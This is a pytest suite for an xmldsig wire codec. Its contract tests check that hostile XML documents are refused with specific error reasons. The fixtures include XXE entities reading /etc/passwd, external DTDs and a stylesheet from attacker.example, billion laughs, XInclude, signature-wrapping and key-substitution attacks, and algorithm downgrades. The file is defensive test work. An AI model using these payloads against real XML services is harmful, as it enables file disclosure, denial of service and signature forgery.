"""The xmldsig wire format: the codec contract for both algorithms it speaks, then hostile
documents, each refused with its precise reason before anything is returned."""

from __future__ import annotations

import base64
import re
from dataclasses import replace

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from lxml import etree
from signxml.algorithms import CanonicalizationMethod, DigestAlgorithm, SignatureMethod
from signxml.signer import XMLSigner

from adapters.crypto.signatures import ECDSA_P256, RSA_PKCS1, Signer
from adapters.wire import xmldsig
from gateway.domain.errors import (
    AlgorithmNotPinned,
    GatewayError,
    KeyMaterialOffered,
    MalformedPayload,
    PayloadTooLarge,
    SchemaViolation,
    SignatureInvalid,
    SignatureLayoutInvalid,
    UnsafePayload,
)
from gateway.domain.messages import DecodedBatch, InboundMessage, SealedEnvelope
from gateway.domain.records import RecordStatus
from gateway.domain.validation import validate_record
from tests.contract.codec_contract import LIMITS, RECEIVED, CodecContract, _signer


class XmlDsigContract(CodecContract):
    codec = xmldsig.XmlDsigCodec()

    def unreadable(self, signer: Signer) -> SealedEnvelope:
        other = etree.fromstring(b'<Invoice xmlns="urn:example:invoice"><Total>3</Total></Invoice>')
        return SealedEnvelope(xmldsig.NAME, xmldsig.sign(other, signer))

    def tampered(self, envelope: SealedEnvelope) -> SealedEnvelope:
        payload = envelope.payload.replace(b'sequence="7"', b'sequence="8"', 1)
        assert payload != envelope.payload
        return replace(envelope, payload=payload)


class TestXmlDsigEcdsaContract(XmlDsigContract):
    algorithm = ECDSA_P256
    other_algorithm = RSA_PKCS1
    sg = _signer("SG-1", ECDSA_P256)
    kr = _signer("KR-1", ECDSA_P256)
    expired = _signer("SG-old", ECDSA_P256)


class TestXmlDsigRsaContract(XmlDsigContract):
    algorithm = RSA_PKCS1
    other_algorithm = ECDSA_P256
    sg = _signer("SG-1", RSA_PKCS1)
    kr = _signer("KR-1", RSA_PKCS1)
    expired = _signer("SG-old", RSA_PKCS1)


# --- hostile documents --------------------------------------------------------------------------


class World(TestXmlDsigEcdsaContract):
    """SG's registered ECDSA key, the contract's directory; not collected (no Test prefix)."""

    __test__ = False


WORLD = World()
NAME = b"<Name>Lion City Logistics Pte Ltd</Name>"


def sealed(records: int = 2) -> bytes:
    return WORLD.codec.seal(WORLD.batch(records), WORLD.sg).payload


def sg_key() -> ec.EllipticCurvePrivateKey:
    """SG's registered private key, for signatures the codec's seal would never make."""
    key = WORLD.sg._key
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    return key


def open_(payload: bytes) -> DecodedBatch:
    return WORLD.open(SealedEnvelope(xmldsig.NAME, payload))


def signed(root: etree._Element, signer: Signer = WORLD.sg) -> bytes:
    return xmldsig.sign(root, signer)


def refused(payload: bytes, error: type[GatewayError], reason: str) -> GatewayError:
    with pytest.raises(error) as caught:
        open_(payload)
    assert caught.value.reason == reason
    return caught.value


def with_prolog(prolog: bytes, body: bytes = b"") -> bytes:
    """A sealed document with ``prolog`` before its root (and ``body`` in its first Name)."""
    doc = sealed().replace(b"<?xml version='1.0' encoding='UTF-8'?>\n", b"")
    if body:
        doc = doc.replace(NAME, b"<Name>" + body + b"</Name>", 1)
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + prolog + doc


def tree(payload: bytes) -> etree._Element:
    return etree.fromstring(payload)


def ds(element: etree._Element, path: str) -> etree._Element:
    found = element.find(path, {"ds": xmldsig.DS, "a": xmldsig.NS})
    assert found is not None
    return found


def test_an_external_entity_xxe_is_refused() -> None:
    """An internal DTD declares a SYSTEM entity on /etc/passwd, used in a Name. Result:
    UnsafePayload; the file is never read."""
    payload = with_prolog(
        b'<!DOCTYPE StatusMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', b"&xxe;"
    )
    refused(payload, UnsafePayload, "payload.unsafe")


def test_a_parameter_entity_is_refused() -> None:
    """A parameter entity pulls an external DTD in. Result: UnsafePayload."""
    payload = with_prolog(
        b'<!DOCTYPE StatusMessage [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
        b" %remote;]>\n"
    )
    refused(payload, UnsafePayload, "payload.unsafe")


def test_billion_laughs_is_refused() -> None:
    """Nested entities that expand to gigabytes. Result: UnsafePayload, nothing expanded."""
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    payload = with_prolog(b"<!DOCTYPE StatusMessage [" + entities + b"]>\n", b"&lol9;")
    refused(payload, UnsafePayload, "payload.unsafe")


def test_an_external_dtd_is_refused() -> None:
    """A DOCTYPE naming a DTD on the network. Result: UnsafePayload, nothing fetched."""
    payload = with_prolog(b'<!DOCTYPE StatusMessage SYSTEM "http://attacker.example/s.dtd">\n')
    refused(payload, UnsafePayload, "payload.unsafe")


def test_an_entity_reference_without_a_dtd_is_refused() -> None:
    """An undeclared entity reference in a Name (no DTD to declare it). Result:
    UnsafePayload, not a plain syntax error."""
    refused(with_prolog(b"", b"&xxe;"), UnsafePayload, "payload.unsafe")


def test_xinclude_is_refused() -> None:
    """An xi:include of /etc/passwd inside a record. Result: UnsafePayload before the signature
    is looked at."""
    include = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    payload = sealed().replace(NAME, NAME + include, 1)
    error = refused(payload, UnsafePayload, "payload.unsafe")
    assert "XInclude" in error.message


def test_a_processing_instruction_is_refused() -> None:
    """An xml-stylesheet processing instruction before the root. Result: UnsafePayload."""
    payload = with_prolog(b'<?xml-stylesheet href="http://attacker.example/s.xsl"?>\n')
    error = refused(payload, UnsafePayload, "payload.unsafe")
    assert "processing instruction" in error.message


def test_a_processing_instruction_inside_the_document_is_refused() -> None:
    """A processing instruction inside a record. Result: UnsafePayload."""
    refused(sealed().replace(NAME, NAME + b"<?php evil() ?>", 1), UnsafePayload, "payload.unsafe")


def test_deeply_nested_elements_are_refused() -> None:
    """Forty nested elements inside a record, well under libxml2's own limit. Result:
    UnsafePayload (too deep), before the signature check."""
    payload = sealed().replace(NAME, NAME + b"<x>" * 40 + b"</x>" * 40, 1)
    error = refused(payload, UnsafePayload, "payload.unsafe")
    assert "deeper" in error.message


def test_nesting_past_the_parsers_limit_is_refused_as_unsafe() -> None:
    """Ten thousand nested elements. Result: UnsafePayload, from libxml2's depth limit."""
    payload = sealed().replace(NAME, NAME + b"<x>" * 10_000 + b"</x>" * 10_000, 1)
    refused(payload, UnsafePayload, "payload.unsafe")


def test_signature_wrapping_under_a_lookalike_root_is_refused() -> None:
    """A genuinely signed document (Reference URI="#doc") moved under a new root of the same
    name whose records were never signed; the signature still verifies over the moved element.
    Result: SignatureLayoutInvalid: the reference must cover the root the gateway reads."""
    root = xmldsig.document(WORLD.batch())
    root.set("Id", "doc")
    genuine = tree(signed(root))
    assert ds(genuine, "ds:Signature/ds:SignedInfo/ds:Reference").get("URI") == "#doc"
    lookalike = xmldsig.document(replace(WORLD.batch(), sequence=8))
    lookalike.append(genuine)  # the signed element, now nested, keeps its signature
    refused(etree.tostring(lookalike), SignatureLayoutInvalid, "signature.layout_invalid")


def test_signature_wrapping_with_the_signature_moved_to_the_lookalike_is_refused() -> None:
    """As above, but the signature is moved to the lookalike root and the genuine element sits
    inside it: the "#doc" reference resolves to the nested element. Result:
    SignatureLayoutInvalid (the reference does not name the root)."""
    root = xmldsig.document(WORLD.batch())
    root.set("Id", "doc")
    genuine = tree(signed(root))
    signature = ds(genuine, "ds:Signature")
    lookalike = xmldsig.document(replace(WORLD.batch(), sequence=8))
    lookalike.append(genuine)
    lookalike.append(signature)
    refused(etree.tostring(lookalike), SignatureLayoutInvalid, "signature.layout_invalid")


def test_an_unsigned_record_injected_beside_the_signed_ones_is_refused() -> None:
    """A Record added to a signed document, before its signature. Result: SignatureInvalid
    (the reference covers the whole document)."""
    doc = sealed()
    first = re.search(rb"<Record>.*?</Record>", doc)
    assert first is not None
    injected = first.group().replace(b"SG000000000000", b"SG999999999999")
    payload = doc.replace(b"<ds:Signature", injected + b"<ds:Signature", 1)
    refused(payload, SignatureInvalid, "signature.invalid")


def test_a_second_signature_is_refused() -> None:
    """A second, copied ds:Signature in the document. Result: SignatureLayoutInvalid."""
    root = tree(sealed())
    root.insert(0, etree.fromstring(etree.tostring(ds(root, "ds:Signature"))))
    refused(etree.tostring(root), SignatureLayoutInvalid, "signature.layout_invalid")


def test_a_reference_to_an_id_two_elements_carry_is_refused() -> None:
    """The reference names "#doc", the root's Id, and a Record carries Id="doc" too. Result:
    SignatureLayoutInvalid: which element is signed would depend on the verifier."""
    root = xmldsig.document(WORLD.batch())
    root.set("Id", "doc")
    root[0].set("Id", "doc")
    refused(signed(root), SignatureLayoutInvalid, "signature.layout_invalid")


def test_a_reference_by_id_to_the_root_is_accepted() -> None:
    """The reference names the root by its (unique) Id. Result: opened, as URI="" would be."""
    root = xmldsig.document(WORLD.batch())
    root.set("Id", "doc")
    assert len(open_(signed(root)).drafts) == 2


def test_a_reference_to_a_single_record_is_refused() -> None:
    """A signature whose reference covers one Record only. Result: SignatureLayoutInvalid."""
    root = xmldsig.document(WORLD.batch())
    root[0].set("Id", "r1")
    signer = XMLSigner(
        signature_algorithm=SignatureMethod.ECDSA_SHA256,
        digest_algorithm=DigestAlgorithm.SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    signer.signature_annotators = [_key_name("SG-1")]
    payload = etree.tostring(signer.sign(root, key=sg_key(), reference_uri="#r1"))
    refused(payload, SignatureLayoutInvalid, "signature.layout_invalid")


def test_a_comment_inside_signed_text_does_not_change_what_is_read() -> None:
    """A comment inserted in the middle of a signed Name (exclusive C14N without comments does
    not sign comments, so the signature still holds). Result: the gateway reads the whole
    signed text, not the part before the comment."""
    payload = sealed().replace(NAME, b"<Name>Lion City<!-- cut here --> Logistics Pte Ltd</Name>")
    naive = tree(payload).find(f"{{{xmldsig.NS}}}Record/{{{xmldsig.NS}}}Name")
    assert naive is not None
    assert naive.text == "Lion City"  # what reading the received tree would give
    opened = open_(payload)
    assert {d.name for d in opened.drafts} == {"Lion City Logistics Pte Ltd"}


def test_a_sha1_digest_is_refused() -> None:
    """DigestMethod SHA-1. Result: AlgorithmNotPinned."""
    payload = sealed().replace(
        DigestAlgorithm.SHA256.value.encode(), DigestAlgorithm.SHA1.value.encode()
    )
    refused(payload, AlgorithmNotPinned, "signature.algorithm_not_pinned")


def test_rsa_sha1_is_refused() -> None:
    """SignatureMethod rsa-sha1. Result: AlgorithmNotPinned."""
    payload = sealed().replace(
        SignatureMethod.ECDSA_SHA256.value.encode(), SignatureMethod.RSA_SHA1.value.encode()
    )
    refused(payload, AlgorithmNotPinned, "signature.algorithm_not_pinned")


def _key_name(key_id: str) -> object:
    def annotate(signature: etree._Element, signing_settings: object) -> None:
        key_info = etree.SubElement(signature, f"{{{xmldsig.DS}}}KeyInfo")
        etree.SubElement(key_info, f"{{{xmldsig.DS}}}KeyName").text = key_id

    return annotate


def test_hmac_sha256_is_refused() -> None:
    """A document MACed with HMAC-SHA256 under a secret the attacker chose, naming SG's key.
    Result: AlgorithmNotPinned."""
    signer = XMLSigner(
        signature_algorithm=SignatureMethod.HMAC_SHA256,
        digest_algorithm=DigestAlgorithm.SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    root = signer.sign(xmldsig.document(WORLD.batch()), key=b"attacker's secret")
    key_info = etree.SubElement(ds(root, "ds:Signature"), f"{{{xmldsig.DS}}}KeyInfo")
    etree.SubElement(key_info, f"{{{xmldsig.DS}}}KeyName").text = "SG-1"
    refused(etree.tostring(root), AlgorithmNotPinned, "signature.algorithm_not_pinned")


def test_a_method_the_format_does_not_pin_is_refused() -> None:
    """A genuine signature by SG's own key, but with ecdsa-sha384. Result:
    AlgorithmNotPinned."""
    signer = XMLSigner(
        signature_algorithm=SignatureMethod.ECDSA_SHA384,
        digest_algorithm=DigestAlgorithm.SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    signer.signature_annotators = [_key_name("SG-1")]
    payload = etree.tostring(signer.sign(xmldsig.document(WORLD.batch()), key=sg_key()))
    refused(payload, AlgorithmNotPinned, "signature.algorithm_not_pinned")


def test_key_info_offering_its_own_key_value_is_refused() -> None:
    """A signature by an attacker's key whose KeyInfo carries KeyName SG-1 and the attacker's
    KeyValue (signxml's default output). Result: KeyMaterialOffered."""
    attacker = ec.generate_private_key(ec.SECP256R1())
    signer = XMLSigner(
        signature_algorithm=SignatureMethod.ECDSA_SHA256,
        digest_algorithm=DigestAlgorithm.SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    root = signer.sign(xmldsig.document(WORLD.batch()), key=attacker, key_name="SG-1")
    assert ds(root, "ds:Signature/ds:KeyInfo/ds:KeyValue") is not None
    refused(etree.tostring(root), KeyMaterialOffered, "signature.key_material_offered")


def test_key_info_offering_a_certificate_is_refused() -> None:
    """KeyInfo with KeyName and an X509Data/X509Certificate. Result: KeyMaterialOffered."""
    root = tree(sealed())
    x509 = etree.SubElement(ds(root, "ds:Signature/ds:KeyInfo"), f"{{{xmldsig.DS}}}X509Data")
    cert = etree.SubElement(x509, f"{{{xmldsig.DS}}}X509Certificate")
    cert.text = base64.b64encode(b"\x30\x82" + bytes(64)).decode()
    refused(etree.tostring(root), KeyMaterialOffered, "signature.key_material_offered")


def test_a_retrieval_method_is_refused() -> None:
    """KeyInfo pointing elsewhere with a RetrievalMethod instead of a KeyName. Result:
    KeyMaterialOffered."""
    root = tree(sealed())
    key_info = ds(root, "ds:Signature/ds:KeyInfo")
    key_info.remove(key_info[0])
    etree.SubElement(key_info, f"{{{xmldsig.DS}}}RetrievalMethod", URI="http://a.example/k")
    refused(etree.tostring(root), KeyMaterialOffered, "signature.key_material_offered")


def test_an_inclusive_canonicalization_is_refused() -> None:
    """CanonicalizationMethod inclusive C14N 1.1 instead of exclusive. Result:
    SignatureLayoutInvalid."""
    root = tree(sealed())
    c14n = ds(root, "ds:Signature/ds:SignedInfo/ds:CanonicalizationMethod")
    c14n.set("Algorithm", CanonicalizationMethod.CANONICAL_XML_1_1.value)
    refused(etree.tostring(root), SignatureLayoutInvalid, "signature.layout_invalid")


def test_a_transform_other_than_enveloped_and_exclusive_c14n_is_refused() -> None:
    """An XPath transform added to the reference. Result: SignatureLayoutInvalid."""
    root = tree(sealed())
    transforms = ds(root, "ds:Signature/ds:SignedInfo/ds:Reference/ds:Transforms")
    etree.SubElement(
        transforms, f"{{{xmldsig.DS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xpath"
    )
    refused(etree.tostring(root), SignatureLayoutInvalid, "signature.layout_invalid")


def test_a_signature_not_last_under_the_root_is_refused() -> None:
    """The signature moved into a record. Result: SignatureLayoutInvalid."""
    root = tree(sealed())
    root[0].append(ds(root, "ds:Signature"))
    refused(etree.tostring(root), SignatureLayoutInvalid, "signature.layout_invalid")


def test_a_document_without_a_signature_is_refused() -> None:
    """The status document alone. Result: SignatureInvalid."""
    payload = etree.tostring(xmldsig.document(WORLD.batch()))
    refused(payload, SignatureInvalid, "signature.invalid")


def test_truncated_bytes_are_malformed() -> None:
    """A sealed document cut in half. Result: MalformedPayload."""
    doc = sealed()
    refused(doc[: len(doc) // 2], MalformedPayload, "payload.malformed")


def test_garbage_bytes_are_malformed() -> None:
    """Bytes that are no XML at all. Result: MalformedPayload."""
    refused(bytes(range(256)) * 4, MalformedPayload, "payload.malformed")


def test_invalid_utf8_is_malformed() -> None:
    """A Name with a byte that is no UTF-8. Result: MalformedPayload."""
    refused(
        sealed().replace(NAME, b"<Name>Lion \xff City</Name>", 1),
        MalformedPayload,
        "payload.malformed",
    )


def test_a_utf16_document_is_malformed() -> None:
    """The sealed document re-encoded as UTF-16 (a DOCTYPE could hide in it from a byte scan).
    Result: MalformedPayload: documents are UTF-8."""
    doc = sealed().replace(b"encoding='UTF-8'", b"encoding='UTF-16'").decode()
    refused(doc.encode("utf-16"), MalformedPayload, "payload.malformed")


def test_a_document_over_the_size_cap_is_refused_before_parsing() -> None:
    """Garbage bytes, more than ten records' worth (the contract's limit). Result:
    PayloadTooLarge, not MalformedPayload: the bytes were not parsed."""
    too_many = xmldsig.max_bytes(LIMITS) + 1
    refused(b"\x00" * too_many, PayloadTooLarge, "payload.too_large")


def test_a_configured_cap_below_the_records_bound_applies() -> None:
    """A codec capped at 1 KiB, a sealed two-record document of about 2 KiB. Result:
    PayloadTooLarge."""
    capped = xmldsig.XmlDsigCodec(max_document_bytes=1024)
    message = InboundMessage("SG", xmldsig.NAME, sealed(), None, RECEIVED, "fp")
    with pytest.raises(PayloadTooLarge):
        capped.open(message, WORLD.directory().keys_for("SG", RECEIVED), LIMITS)


def test_a_document_that_breaks_the_schema_names_the_place() -> None:
    """A signed document with an element the schema does not know in its second record.
    Result: SchemaViolation whose detail names the path."""
    root = xmldsig.document(WORLD.batch())
    etree.SubElement(root[1], f"{{{xmldsig.NS}}}Colour").text = "blue"
    error = refused(signed(root), SchemaViolation, "payload.schema_invalid")
    assert "Record[2]" in error.message


def test_an_unknown_status_refuses_that_record_alone() -> None:
    """Three signed records: one with status "dormant", one with an unreadable date, one valid.
    Result: the first has problem record.status_unknown, the second record.field_invalid, the
    third is fine."""
    root = xmldsig.document(WORLD.batch(records=3))
    status = root[0].find(f"{{{xmldsig.NS}}}Status")
    authorised = root[1].find(f"{{{xmldsig.NS}}}AuthorisedFrom")
    assert status is not None
    assert authorised is not None
    status.text = "dormant"
    authorised.text = "2026-02-30"
    dormant, bad_date, fine = open_(signed(root)).drafts
    assert dormant.problem is not None
    assert dormant.problem[0] == "record.status_unknown"
    assert bad_date.problem is not None
    assert bad_date.problem[0] == "record.field_invalid"
    assert fine.problem is None
    assert fine.status is RecordStatus.VALID
    assert [type(validate_record(d)).__name__ for d in (dormant, bad_date, fine)] == [
        "Rejection",
        "Rejection",
        "AeoRecord",
    ]


def test_an_error_does_not_echo_long_input() -> None:
    """A 10,000-character signature method URI. Result: AlgorithmNotPinned whose message is
    short."""
    payload = sealed().replace(
        SignatureMethod.ECDSA_SHA256.value.encode(), b"urn:x:" + b"A" * 10_000
    )
    error = refused(payload, AlgorithmNotPinned, "signature.algorithm_not_pinned")
    assert len(error.message) < 300


def test_a_comment_inside_key_info_is_refused_not_a_crash() -> None:
    """A comment put before KeyInfo's KeyName (KeyInfo is outside what is signed). Result:
    KeyMaterialOffered naming the comment, before any signature work."""
    root = tree(sealed())
    ds(root, "ds:Signature/ds:KeyInfo").insert(0, etree.Comment(" x "))
    error = refused(etree.tostring(root), KeyMaterialOffered, "signature.key_material_offered")
    assert "comment" in error.message


def test_a_relative_namespace_uri_that_c14n_cannot_handle_is_malformed() -> None:
    """SignedInfo, and in another message a signed record, declare a relative namespace URI,
    which libxml2's canonicalisation refuses. Result: payload.malformed or
    signature.layout_invalid with a reason, never an internal error."""
    doc = sealed()
    in_signed_info = doc.replace(b"<ds:SignedInfo", b'<ds:SignedInfo xmlns:r="rel"', 1)
    with pytest.raises(GatewayError) as caught:
        open_(in_signed_info)
    assert caught.value.reason in ("payload.malformed", "signature.layout_invalid")
    in_record = doc.replace(b"<Record>", b'<Record><a:b xmlns:a="u"/>', 1)
    with pytest.raises(GatewayError) as caught:
        open_(in_record)
    assert caught.value.reason in ("payload.malformed", "payload.schema_invalid")


def test_an_empty_signature_value_is_refused_not_a_crash() -> None:
    """The SignatureValue emptied. Result: a signature error with its reason."""
    root = tree(sealed())
    ds(root, "ds:Signature/ds:SignatureValue").text = None
    with pytest.raises(GatewayError) as caught:
        open_(etree.tostring(root))
    assert caught.value.reason in ("signature.layout_invalid", "signature.invalid")
